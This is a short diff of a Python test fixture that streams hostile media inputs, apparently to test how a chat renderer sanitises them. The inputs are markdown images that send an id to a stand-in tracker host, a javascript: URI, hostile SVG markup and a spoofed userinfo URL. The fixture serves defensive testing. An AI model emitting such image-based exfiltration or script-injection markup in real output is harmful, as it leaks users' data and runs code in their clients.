@@ -349,7 +349,9 @@ async def media() -> AsyncIterator[Any]:
 
 async def hostile_media() -> AsyncIterator[Any]:
     """Images and files that would like to be more than that."""
-    yield f"![a chart](https://tracker.example/pixel.gif?leak={blocks.HOSTILE.id}) ![x](javascript:window.pwned=1)"
+    text = f"![a chart](https://tracker.example/pixel.gif?leak={blocks.HOSTILE.id}) ![x](javascript:window.pwned=1)"
+    async for piece in words(f"Here is the chart that you asked for: {text}"):
+        yield piece
     yield rt.image(pictures.DRAWING.encode(), media_type="image/png", alt=MARKUP, id="hostile-svg")
     yield rt.image(url="https://tracker.example/pixel.gif?leak=1", alt=f"A chart {MARKUP}", id="hostile-remote")
     yield rt.image(url="https://app.example@tracker.example/pixel.gif", alt="Two hosts", id="hostile-userinfo")
